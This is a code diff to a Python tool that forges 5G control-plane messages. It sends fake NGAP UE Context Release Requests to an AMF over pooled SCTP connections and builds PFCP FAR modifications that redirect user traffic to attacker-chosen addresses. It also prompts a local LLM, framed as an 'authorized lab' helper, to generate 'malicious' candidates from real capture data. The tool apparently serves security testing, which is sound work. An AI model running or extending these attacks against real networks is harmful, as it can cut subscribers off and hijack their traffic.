@@ -14,10 +14,9 @@
 #   - requests (for Ollama LLM integration): pip install requests
 
 from __future__ import annotations
-import json, socket, os
+import json, socket, os, sys, time
 from dataclasses import dataclass
 from typing import Optional, List
-from copy import deepcopy
 
 import requests
 
@@ -25,7 +24,20 @@ from scapy.all import IP, UDP, send
 from scapy.contrib import pfcp as scapy_pfcp
 
 # ---- NGAP (pycrate) ----
-from pycrate_asn1dir.NGAP import NGAP_PDU_Descriptions, NGAP_Constants
+from pycrate_asn1dir.NGAP import NGAP_Constants
+
+# Compiled APER templates over the shared NGAP PDU pool (test-case generation/)
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "test-case generation"))
+from ngap_template import UE_CONTEXT_RELEASE_REQUEST
+
+# Pooled long-lived SCTP associations to the AMF (test-case generation/)
+from ngap_transport import (DEFAULT_ASSOCIATIONS, DEFAULT_STREAMS, SCTP_AVAILABLE, TRANSPORTS,
+                            ResponseMatcher, close_pools, pool_for, pools, resolve_transport)
+
+# Context JSON is embedded compact and size-capped, see hunt5g.fit_budget().
+# hunt5g sits next to this file, which covering_array.py loads by path.
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+from hunt5g import DEFAULT_BUDGET, context_for_prompt
 
 # ---------------------------------------------------------------------------
 # PFCP base classes & IE helpers (Scapy)
@@ -120,19 +132,6 @@ def json_from_llm(s: str) -> dict:
 # NGAP helpers (Scenario 5 – fake UE Context Release)
 # ---------------------------------------------------------------------------
 
-def _fresh_ngap_pdu():
-    """
-    Return a *fresh* NGAP PDU object.
-
-    pycrate sometimes reuses a global template, so we either call clone()
-    if available or fall back to deepcopy to avoid modifying shared state.
-    """
-    tmpl = NGAP_PDU_Descriptions.NGAP_PDU
-    if hasattr(tmpl, "clone"):
-        return tmpl.clone()
-    return deepcopy(tmpl)
-
-
 def _ngap_const_int(c):
     """
     Convert a pycrate NGAP constant (e.g. NGAP_Constants.id_Cause)
@@ -188,65 +187,37 @@ def build_ngap_ue_context_release_request(spec: NGAPReleaseSpec) -> bytes:
         if right:
             cause_name = right
 
-    cause_choice = ("Cause", (cause_dom, cause_name))
-
-    # NGAP IE list inside UEContextReleaseRequest
-    ies = [
-        {
-            "id": _ngap_const_int(NGAP_Constants.id_AMF_UE_NGAP_ID),
-            "criticality": "reject",
-            "value": ("AMF_UE_NGAP_ID", spec.amf_ue_ngap_id),
-        },
-        {
-            "id": _ngap_const_int(NGAP_Constants.id_RAN_UE_NGAP_ID),
-            "criticality": "reject",
-            "value": ("RAN_UE_NGAP_ID", spec.ran_ue_ngap_id),
-        },
-        {
-            "id": _ngap_const_int(NGAP_Constants.id_Cause),
-            "criticality": "ignore",
-            "value": cause_choice,
-        },
-    ]
-
-    # Wrap IEs into the NGAP InitiatingMessage (UEContextReleaseRequest)
-    pdu_val = (
-        "initiatingMessage",
-        {
-            "procedureCode": _ngap_const_int(NGAP_Constants.id_UEContextRelease),
-            "criticality": "reject",
-            "value": (
-                "UEContextReleaseRequest",
-                {
-                    "protocolIEs": ies,
-                },
-            ),
-        },
+    # The IE list (AMF-UE-NGAP-ID, RAN-UE-NGAP-ID, Cause) lives in
+    # ngap_template.ue_context_release_request_value(). Procedure code and
+    # Cause fix the template; the two UE ids are patched into its bytes.
+    shape = (
+        _ngap_const_int(NGAP_Constants.id_UEContextRelease),
+        cause_dom,
+        cause_name,
     )
-
-    pdu = _fresh_ngap_pdu()
-    pdu.set_val(pdu_val)
-    return pdu.to_aper()
+    params = {
+        "amf_ue_ngap_id": spec.amf_ue_ngap_id,
+        "ran_ue_ngap_id": spec.ran_ue_ngap_id,
+    }
+    return UE_CONTEXT_RELEASE_REQUEST.encode(shape, params)
 
 
-def send_ngap_sctp(raw_ngap: bytes, amf_ip: str, amf_port: int):
+def send_ngap_sctp(raw_ngap: bytes, amf_ip: str, amf_port: int, ue_key=None, **pool_options):
     """
-    Send raw NGAP bytes over SCTP to the AMF.
+    Queue raw NGAP bytes for the AMF on the process-wide association pool
+    of (amf_ip, amf_port); the associations are connected on first use and
+    reused by every later case. close_pools() writes out what is queued.
 
-    If pysctp is not installed, we simply print the hex payload so it
-    can be replayed with another SCTP tool.
+    `ue_key` (the RAN-UE-NGAP-ID) keeps one UE's PDUs on one SCTP stream.
+    If pysctp is not installed (and transport="tcp" was not asked for), we
+    simply print the hex payload so it can be replayed with another SCTP tool.
     """
-    try:
-        import sctp  # pysctp
-    except Exception:
+    if not SCTP_AVAILABLE and resolve_transport(pool_options.get("transport", "sctp")) == "sctp":
         print("[!] pysctp not available; hex payload below. Use your SCTP stack or tcpreplay:")
         print(raw_ngap.hex())
         return
 
-    s = sctp.sctpsocket_tcp(socket.AF_INET)
-    s.connect((amf_ip, amf_port))
-    s.sctp_send(raw_ngap)
-    s.close()
+    pool_for(amf_ip, amf_port, **pool_options).submit(raw_ngap, ue_key)
 
 # ---------------------------------------------------------------------------
 # Scenario #7: PFCP SessionModificationRequest / Update FAR (Demo)
@@ -452,11 +423,14 @@ PFCP_JSON_SCHEMA = {
 
 
 def prompt_llm_for_ngap_from_context(
-    ctx_path: str, count: int = 3, model: str = "mistral", host: Optional[str] = None
+    ctx_path: str, count: int = 3, model: str = "mistral", host: Optional[str] = None,
+    budget: int = DEFAULT_BUDGET,
 ) -> List[NGAPReleaseSpec]:
     """
     Read NGAP context JSON (produced by hunt5g.py) and ask the LLM
     to propose several malicious UEContextReleaseRequest candidates.
+    The context goes into the prompt as compact JSON of at most `budget`
+    characters.
 
     Returns:
         List of NGAPReleaseSpec objects that can be passed directly
@@ -469,11 +443,12 @@ def prompt_llm_for_ngap_from_context(
 You are assisting in 5G control-plane security testing (authorized lab).
 Scenario: Fake UE Context Release Request (S5).
 Context from real captures:
-{json.dumps(ctx, indent=2)}
+{context_for_prompt(ctx, budget)}
 
 Generate {count} malicious UEContextReleaseRequest candidates.
 Each candidate must:
-- Use an existing (amf_ue_ngap_id, ran_ue_ngap_id) pair from the context.
+- Use an existing (amf_ue_ngap_id, ran_ue_ngap_id) pair from the context,
+  preferring pairs that are not marked "released".
 - Choose a Cause that is valid per 3GPP NGAP and plausible for abuse.
 Return JSON only:
 {{
@@ -492,11 +467,13 @@ Return JSON only:
 
 
 def prompt_llm_for_pfcp_from_context(
-    ctx_path: str, count: int = 3, model: str = "mistral", host: Optional[str] = None
+    ctx_path: str, count: int = 3, model: str = "mistral", host: Optional[str] = None,
+    budget: int = DEFAULT_BUDGET,
 ) -> List[PFCPModifySpec]:
     """
-    Read PFCP context JSON and ask the LLM to generate malicious FAR
-    modifications for Scenario 7.
+    Read PFCP context JSON (produced by hunt5g.py) and ask the LLM to
+    generate malicious FAR modifications for Scenario 7. The context goes
+    into the prompt as compact JSON of at most `budget` characters.
 
     The LLM is constrained to:
       - pick existing (seid, far_id) pairs from the context,
@@ -510,11 +487,12 @@ def prompt_llm_for_pfcp_from_context(
 You are assisting in 5G PFCP security testing (authorized lab).
 Scenario: Fake PFCP Session Modification Request with FAR Manipulation (S7).
 Context from real captures:
-{json.dumps(ctx, indent=2)}
+{context_for_prompt(ctx, budget)}
 
 Generate {count} malicious FAR modifications.
 Rules:
-- Use an existing (seid, far_id) from the context.
+- Use an existing (seid, far_id) from the context, preferring sessions
+  that are not marked "released".
 - apply_action must be one of {list(ALLOWED_ACTIONS)} or "redirect".
 - For redirect/forward, set dst_ipv4/teid/dst_port to plausible attacker-controlled values.
 Return JSON only:
@@ -555,12 +533,24 @@ if __name__ == "__main__":
     s5.add_argument("--ran-id", type=int, help="Manual RAN-UE-NGAP-ID")
     s5.add_argument("--cause", default="radioNetwork:unspecified")
     s5.add_argument("--context", help="NGAP LLM context JSON from hunt5g.py")
+    s5.add_argument("--budget", type=int, default=DEFAULT_BUDGET,
+                    help="max characters of context in the prompt")
     s5.add_argument("--llm", action="store_true",
                     help="Use LLM + context to generate specs")
     s5.add_argument("--count", type=int, default=3,
                     help="How many LLM-generated variants")
     s5.add_argument("--send", action="store_true",
                     help="Send over SCTP (Linux + pysctp)")
+    s5.add_argument("--associations", type=int, default=DEFAULT_ASSOCIATIONS,
+                    help="SCTP associations kept open per AMF")
+    s5.add_argument("--streams", type=int, default=DEFAULT_STREAMS,
+                    help="outbound SCTP streams requested per association")
+    s5.add_argument("--transport", choices=TRANSPORTS, default="sctp",
+                    help="tcp = length-prefixed NGAP over TCP, for mock_amf.py without SCTP")
+    s5.add_argument("--match", action="store_true",
+                    help="Wait for the AMF's answers and match them to cases by UE NGAP IDs")
+    s5.add_argument("--wait", type=float, default=3.0,
+                    help="Seconds to wait for answers with --match")
     s5.add_argument("--dump", action="store_true",
                     help="Print hex of crafted PDUs")
 
@@ -579,6 +569,8 @@ if __name__ == "__main__":
     s7.add_argument("--dst-port", type=int, default=2152,
                     help="GTP-U UDP port (usually 2152)")
     s7.add_argument("--context", help="PFCP LLM context JSON from hunt5g.py")
+    s7.add_argument("--budget", type=int, default=DEFAULT_BUDGET,
+                    help="max characters of context in the prompt")
     s7.add_argument("--llm", action="store_true",
                     help="Use LLM + context to generate specs")
     s7.add_argument("--count", type=int, default=3)
@@ -593,7 +585,7 @@ if __name__ == "__main__":
         if args.llm and args.context:
             # Use LLM + context file to produce several attack candidates
             specs = prompt_llm_for_ngap_from_context(
-                args.context, count=args.count
+                args.context, count=args.count, budget=args.budget
             )
         elif args.amf_id is not None and args.ran_id is not None:
             # Manual single attack case provided via CLI
@@ -610,7 +602,16 @@ if __name__ == "__main__":
                 "--amf-id and --ran-id."
             )
 
-        # Build and optionally send all generated NGAP attacks
+        # Build and optionally send all generated NGAP attacks. Sends are
+        # only queued here; the pooled associations write them out below.
+        matcher = ResponseMatcher() if args.match else None
+        pool_options = {
+            "size": args.associations,
+            "streams": args.streams,
+            "on_message": matcher.on_message if matcher else None,
+            "transport": args.transport,
+        }
+        start = time.perf_counter()
         for i, spec in enumerate(specs, 1):
             raw = build_ngap_ue_context_release_request(spec)
             print(f"\n[S5 case #{i}] AMF-UE={spec.amf_ue_ngap_id}, "
@@ -619,7 +620,29 @@ if __name__ == "__main__":
                 # Helpful when you only want to save the payload for later replay.
                 print(raw.hex())
             if args.send:
-                send_ngap_sctp(raw, spec.amf_ip, spec.amf_sctp_port)
+                if matcher:
+                    matcher.expect(spec.amf_ue_ngap_id, spec.ran_ue_ngap_id, f"case #{i}")
+                send_ngap_sctp(raw, spec.amf_ip, spec.amf_sctp_port,
+                               ue_key=spec.ran_ue_ngap_id, **pool_options)
+                if len(specs) > 1:
+                    for pool in pools():
+                        pool.pump()
+
+        if args.send and pools():
+            for pool in pools():
+                pool.flush()
+            if matcher:
+                deadline = time.perf_counter() + args.wait
+                while not matcher.done() and time.perf_counter() < deadline:
+                    for pool in pools():
+                        pool.pump(0.05)
+                for label, answer, latency in matcher.results:
+                    print(f"[*] {label}: {answer} after {latency * 1000:.1f} ms")
+                print(f"[+] Answers: {matcher.summary()}")
+            for pool in pools():
+                print(f"[+] {pool.summary()}")
+            close_pools()
+            print(f"[+] {len(specs)} case(s) in {time.perf_counter() - start:.2f}s")
 
     # ------------------------- Scenario 7 path ------------------------
     elif args.cmd == "s7-pfcp":
@@ -628,7 +651,7 @@ if __name__ == "__main__":
         if args.llm and args.context:
             # Use LLM + PFCP context to auto-propose FAR modifications
             specs = prompt_llm_for_pfcp_from_context(
-                args.context, count=args.count
+                args.context, count=args.count, budget=args.budget
             )
         elif args.seid is not None and args.far is not None:
             # Manual single FAR modification specified via CLI